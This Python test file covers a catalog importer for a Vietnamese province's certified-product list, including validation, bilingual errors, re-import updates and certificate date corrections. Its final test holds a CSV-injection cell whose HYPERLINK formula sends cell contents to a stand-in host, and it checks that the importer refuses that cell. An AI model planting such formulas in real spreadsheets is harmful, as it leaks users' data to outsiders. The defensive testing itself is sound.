"""Importing the province's list: all or nothing, bilingual errors, re-import updates."""

from __future__ import annotations

import datetime as dt
import io

import pytest
import sqlalchemy as sa
from openpyxl import Workbook

from shop.catalog import certificates, import_file, importer, schemas
from shop.catalog.models import Certificate, Producer, Product
from tests import factories as f

HEADER = "Tên sản phẩm,Chủ thể,Loại hình,Địa chỉ,Nhóm,Số sao,Điểm,Số quyết định,Ngày quyết định\n"
GOOD = HEADER + (
    'Miến dong Tài Hoan,HTX Tài Hoan,HTX,"Na Rì, Bắc Kạn",food-processed,5,92,1020/QĐ-BNN,01/07/2024\n'
    'Mật ong bạc hà,HTX Mật ong Đồng Văn,hợp tác xã,"Đồng Văn, Hà Giang",'
    "Mật ong và sản phẩm từ mật ong,4,78,55/QĐ-UBND,2023-03-15\n"
    'Tinh dầu quế,HTX Tuệ Lâm,cooperative,"Bình Liêu, Quảng Ninh",herbal-cosmetic,3,,880/QĐ-UBND,2025-09-01\n'
)


async def _count(session, model):
    return await session.scalar(sa.select(sa.func.count()).select_from(model))


async def test_a_good_list_is_imported_and_a_second_import_updates(session):
    report = await importer.import_products(session, "list.csv", GOOD.encode(), today=f.TODAY)
    assert report.ok, [e.text("en") for e in report.errors]
    assert (report.producers_created, report.products_created, report.certificates_created) == (3, 3, 3)
    again = await importer.import_products(session, "list.csv", GOOD.encode(), today=f.TODAY)
    assert again.ok and again.products_created == 0 and again.products_updated == 3
    assert await _count(session, Product) == 3
    assert await _count(session, Certificate) == 3
    assert await _count(session, Producer) == 3


async def test_a_recertification_row_supersedes(session):
    await importer.import_products(session, "list.csv", GOOD.encode(), today=f.TODAY)
    newer = (
        HEADER
        + 'Mật ong bạc hà,HTX Mật ong Đồng Văn,HTX,"Đồng Văn, Hà Giang",'
        + "food-honey,3,60,99/QĐ-UBND,2026-03-15\n"
    )
    report = await importer.import_products(session, "list.csv", newer.encode(), today=f.TODAY)
    assert report.ok and report.certificates_created == 1
    stars = (
        await session.scalars(
            sa.select(Certificate.stars)
            .where(Certificate.status == "active")
            .join(Product)
            .where(Product.name == "Mật ong bạc hà")
        )
    ).all()
    assert stars == [3]


async def test_one_bad_row_means_nothing_is_written_and_every_error_is_reported(session):
    bad = GOOD + (
        'Sản phẩm X,HTX X,ngân hàng,"Na Rì, Bắc Kạn",food,7,,1/QĐ,hôm qua\n'
        ",HTX Y,HTX,Atlantis,nope,3,,2/QĐ,2024-01-01\n"
    )
    report = await importer.import_products(session, "list.csv", bad.encode(), today=f.TODAY)
    assert not report.ok
    fields = {(e.row, e.field) for e in report.errors}
    assert {
        (5, "producer_kind"),
        (5, "stars"),
        (5, "decision_date"),
        (6, "product"),
        (6, "place"),
        (6, "group"),
    } <= fields
    error = next(e for e in report.errors if e.field == "stars")
    assert error.text("vi") != error.text("en") and error.text("en") == "Stars must be 3, 4 or 5."
    assert await _count(session, Product) == 0


async def test_an_xlsx_file_is_read_with_real_dates(session):
    workbook = Workbook()
    sheet = workbook.active
    for line in GOOD.strip().splitlines():
        sheet.append(next(__import__("csv").reader([line])))
    buffer = io.BytesIO()
    workbook.save(buffer)
    report = await importer.import_products(session, "list.xlsx", buffer.getvalue(), today=f.TODAY)
    assert report.ok and report.products_created == 3


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("list.pdf", b"%PDF"),
        ("list.csv", b""),
        ("list.csv", b"a,b\n1,2\n"),
        ("list.xlsx", b"not a zip"),
        ("list.csv", "Tên sản phẩm\n".encode("utf-16")),
    ],
)
def test_unreadable_files_are_refused_with_a_reason(name, content):
    with pytest.raises(import_file.ImportFileError):
        import_file.read_rows(name, content)


def _honey(decision: str, day: str, stars: int = 4) -> bytes:
    row = f'Mật ong bạc hà,HTX Mật ong Đồng Văn,HTX,"Đồng Văn, Hà Giang",food-honey,{stars},80,{decision},'
    row += f"{day}\n"
    return (HEADER + row).encode()


async def _honey_certificates(session) -> list[Certificate]:
    found = await session.scalars(
        sa.select(Certificate)
        .join(Product)
        .where(Product.name == "Mật ong bạc hà")
        .order_by(Certificate.decision_date)
    )
    return list(found)


async def test_a_corrected_decision_date_is_applied_with_its_validity(session):
    first = await importer.import_products(
        session, "list.csv", _honey("55/QĐ-UBND", "2021-10-08"), today=f.TODAY
    )
    assert first.ok and (await _honey_certificates(session))[0].status == "expired"
    report = await importer.import_products(
        session, "list.csv", _honey("55/QĐ-UBND", "2024-10-08", stars=5), today=f.TODAY
    )
    assert report.ok and report.certificates_updated == 1 and report.certificates_created == 0
    [cert] = await _honey_certificates(session)
    assert (cert.decision_date, cert.valid_from, cert.valid_until) == (
        dt.date(2024, 10, 8),
        dt.date(2024, 10, 8),
        dt.date(2027, 10, 7),
    )
    assert cert.status == "active" and cert.stars == 5
    product = await session.scalar(sa.select(Product).where(Product.name == "Mật ong bạc hà"))
    await session.refresh(product)
    assert product.certified_until == dt.date(2027, 10, 7) and product.stars == 5


async def test_a_corrected_date_that_contradicts_another_decision_is_refused(session):
    await importer.import_products(session, "list.csv", _honey("55/QĐ-UBND", "2022-01-10"), today=f.TODAY)
    await importer.import_products(session, "list.csv", _honey("99/QĐ-UBND", "2025-01-10"), today=f.TODAY)
    report = await importer.import_products(
        session, "list.csv", _honey("55/QĐ-UBND", "2025-06-01"), today=f.TODAY
    )
    assert not report.ok and report.certificates_updated == 0
    [error] = report.errors
    assert (error.row, error.field) == (2, "decision_date")
    assert "99/QĐ-UBND" in error.text("en") and "01/06/2025" in error.text("en")
    assert error.text("vi") != error.text("en")


async def test_the_date_of_a_revoked_decision_is_not_corrected(session):
    await importer.import_products(session, "list.csv", _honey("55/QĐ-UBND", "2024-01-10"), today=f.TODAY)
    [cert] = await _honey_certificates(session)
    await certificates.revoke(session, cert.id, schemas.RevocationIn(reason="Hàng giả"), today=f.TODAY)
    report = await importer.import_products(
        session, "list.csv", _honey("55/QĐ-UBND", "2024-02-10"), today=f.TODAY
    )
    assert not report.ok and "revoked" in report.errors[0].text("en")
    await session.refresh(cert)
    assert cert.decision_date == dt.date(2024, 1, 10) and cert.status == "revoked"


async def test_cells_a_spreadsheet_would_run_as_formulas_are_refused(session):
    bad = HEADER + (
        '=HYPERLINK("http://x.example/?"&A1),HTX Tài Hoan,HTX,"Na Rì, Bắc Kạn",'
        "food-processed,5,92,1/QĐ,2024-07-01\n"
    )
    report = await importer.import_products(session, "list.csv", bad.encode(), today=f.TODAY)
    assert not report.ok
    [error] = report.errors
    assert error.field == "product" and "formula" in error.text("en")
    assert await _count(session, Product) == 0
